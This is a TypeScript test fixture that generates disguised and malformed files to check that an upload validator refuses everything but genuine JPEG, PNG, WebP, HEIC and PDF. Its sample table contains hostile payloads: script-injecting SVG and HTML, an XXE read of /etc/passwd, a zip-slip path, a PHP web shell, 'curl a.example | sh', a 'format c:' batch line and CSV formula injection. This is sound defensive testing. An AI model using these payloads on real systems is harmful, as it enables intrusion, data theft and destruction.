import { gzipSync } from "node:zlib";
import { FILE_MEDIA_TYPES, type FileMediaType } from "@entrada/domain/documents/file-rules";
import { HEIC } from "../files/picture/made-heic.fixture.ts";
import { noise } from "./bytes.fixture.ts";
import { filesOf, type HostileFile } from "./hostile-file.fixture.ts";
import { plainJpeg } from "./jpeg-parts.fixture.ts";
import { pdf } from "./pdf-writer.fixture.ts";
import { pngWith } from "./png.fixture.ts";
import { webpWith } from "./webp.fixture.ts";
import { zip } from "./zip.fixture.ts";

const hex = (digits: string) => Buffer.concat([Buffer.from(digits, "hex"), noise(600, digits.length)]);
const words = (text: string) => Buffer.from(text);
const office = (type: string) =>
  zip({
    "[Content_Types].xml": `<Types><Override ContentType="application/vnd.${type}"/></Types>`,
    "a.bin": noise(99, 1),
  });

/** Files of types that are not taken: each is declared as one that is. */
const FOREIGN: Readonly<Record<string, Buffer>> = {
  SVG: words('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
  "SVG behind XML": words(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
  ),
  HTML: words("<!doctype html><script>alert(document.cookie)</script>"),
  ZIP: zip({ "../../../../root/.ssh/authorized_keys": "ssh-ed25519 AAAA", "a.txt": "a" }),
  Word: office("openxmlformats-officedocument.wordprocessingml.document"),
  "a program for Windows": Buffer.concat([
    words("MZ"),
    noise(58, 2),
    Buffer.from([64, 0, 0, 0]),
    words("PE\0\0"),
    noise(500, 3),
  ]),
  "GIF and JavaScript": words('GIF89a/*\x01\0\x01\0*/=1;alert("x");//;'),
  GIF: Buffer.from("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b", "hex"),
  "a program for Linux": hex("7f454c4602010100"),
  "a program for macOS": hex("cffaedfe07000001"),
  "a Java class": hex("cafebabe00000034"),
  WebAssembly: hex("0061736d01000000"),
  Excel: office("openxmlformats-officedocument.spreadsheetml.sheet"),
  "Word with macros": office("ms-word.document.macroEnabled.main+xml"),
  "Word of 1997": hex("d0cf11e0a1b11ae1"),
  "a Java archive": zip({ "META-INF/MANIFEST.MF": "Main-Class: A\n", "A.class": hex("cafebabe") }),
  "an Android package": zip({ "AndroidManifest.xml": noise(99, 4), "classes.dex": "dex\n035\0" }),
  RTF: words("{\\rtf1{\\object\\objdata 0105}}"),
  "7-Zip": hex("377abcaf271c0004"),
  RAR: hex("526172211a070100"),
  gzip: gzipSync(words("a file")),
  bzip2: hex("425a6839314159"),
  XZ: hex("fd377a585a00"),
  tar: Buffer.concat([words("a.txt".padEnd(257, "\0")), words("ustar\x0000"), noise(400, 5)]),
  "a disc": Buffer.concat([Buffer.alloc(32_769), words("CD001"), noise(99, 6)]),
  BMP: hex("424d5a0000000000000036000000"),
  TIFF: hex("49492a0008000000"),
  "TIFF of the other order": hex("4d4d002a00000008"),
  icon: hex("000001000100"),
  HEIC: Buffer.concat([hex("0000001c66747970").subarray(0, 8), words("heic\0\0\0\0mif1heic"), noise(500, 7)]),
  AVIF: Buffer.concat([hex("0000001c66747970").subarray(0, 8), words("avif\0\0\0\0mif1avif"), noise(500, 8)]),
  MP4: Buffer.concat([hex("0000001c66747970").subarray(0, 8), words("isom\0\0\0\0isomiso2"), noise(500, 9)]),
  "JPEG 2000": hex("0000000c6a5020200d0a870a"),
  "JPEG XL": hex("0000000c4a584c200d0a870a"),
  Photoshop: hex("384250530001"),
  PostScript: words("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
  "PostScript for DOS": hex("c5d0d3c6"),
  DjVu: words("AT&TFORM\0\0\0\x10DJVUINFO"),
  Flash: hex("465753090000"),
  MP3: hex("494433040000"),
  Matroska: hex("1a45dfa3"),
  "a shell's script": words("#!/bin/sh\ncurl a.example | sh\n"),
  PHP: words("<?php system($_GET['c']);"),
  JavaScript: words("require('child_process').exec('id')"),
  "a batch": words("@echo off\r\nformat c:\r\n"),
  "a shortcut": hex("4c0000000114020000000000c000000000000046"),
  "an installer": hex("d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900"),
  "a database": words("SQLite format 3\0"),
  "a message": words("From: a@b.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
  "a private key": words(["-----BEGIN", "PRIVATE KEY-----"].join(" ")),
  JSON: words('{"__proto__":{"isAdmin":true}}'),
  XML: words(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>`),
  CSV: words("=cmd|' /C calc'!A0,1,2\n"),
  text: words("Dear Sir or Madam"),
  "one byte": Buffer.of(0xff),
  "one zero": Buffer.of(0),
  "two bytes": Buffer.from("ffd8", "hex"),
  "a line's end": words("\r\n"),
  "the mark of UTF-8": Buffer.from("efbbbf", "hex"),
  "the mark of UTF-16": Buffer.from("fffe", "hex"),
  "the other mark of UTF-16": Buffer.from("feff", "hex"),
  "the mark of UTF-32": Buffer.from("0000feff", "hex"),
  zeros: Buffer.alloc(10_000),
  noise: noise(10_000, 10),
};

// Those are declared as everything; each of the others as one type.
const OFTEN = 7;

/** Files of every type under every other's name, and what stands before a right beginning. */
export async function foreignFiles(): Promise<readonly HostileFile[]> {
  const right: Readonly<Record<FileMediaType, Buffer>> = {
    "image/jpeg": await plainJpeg(),
    "image/png": pngWith(),
    "image/webp": await webpWith(),
    "image/heic": HEIC,
    "application/pdf": pdf(),
  };
  const file = filesOf("another type", "image/jpeg", "refused");
  const before: Readonly<Record<string, Buffer>> = {
    "the mark of UTF-8": Buffer.from("efbbbf", "hex"),
    "the mark of UTF-16": Buffer.from("fffe", "hex"),
    "a blank": words(" "),
    "a zero": Buffer.of(0),
    "a page": words("<script>alert(1)</script>\n"),
  };
  const foreign = Object.entries(FOREIGN).flatMap(([name, bytes], at) => {
    const one = FILE_MEDIA_TYPES[at % FILE_MEDIA_TYPES.length] ?? "image/jpeg";
    return (at < OFTEN ? FILE_MEDIA_TYPES : [one]).map((mediaType) => ({
      name: `${name} as ${mediaType}`,
      mediaType,
      bytes,
    }));
  });
  const swapped = FILE_MEDIA_TYPES.flatMap((mediaType) =>
    FILE_MEDIA_TYPES.filter((other) => other !== mediaType).map((other) => ({
      name: `${other} as ${mediaType}`,
      mediaType,
      bytes: right[other],
    })),
  );
  const shifted = FILE_MEDIA_TYPES.flatMap((mediaType) =>
    Object.entries(before).map(([name, bytes]) => ({
      name: `${name} before ${mediaType}`,
      mediaType,
      bytes: Buffer.concat([bytes, right[mediaType]]),
    })),
  );
  const empty = FILE_MEDIA_TYPES.map((mediaType) => ({
    name: `nothing as ${mediaType}`,
    mediaType,
    bytes: Buffer.alloc(0),
  }));
  const large = FILE_MEDIA_TYPES.map((mediaType) => ({
    name: `too many bytes of ${mediaType}`,
    mediaType,
    bytes: Buffer.concat([right[mediaType], Buffer.alloc(10_485_761 - right[mediaType].length, 0x20)]),
  }));
  return [...foreign, ...swapped, ...shifted, ...empty, ...large].map(({ name, bytes, mediaType }) =>
    file(name, bytes, { mediaType }),
  );
}
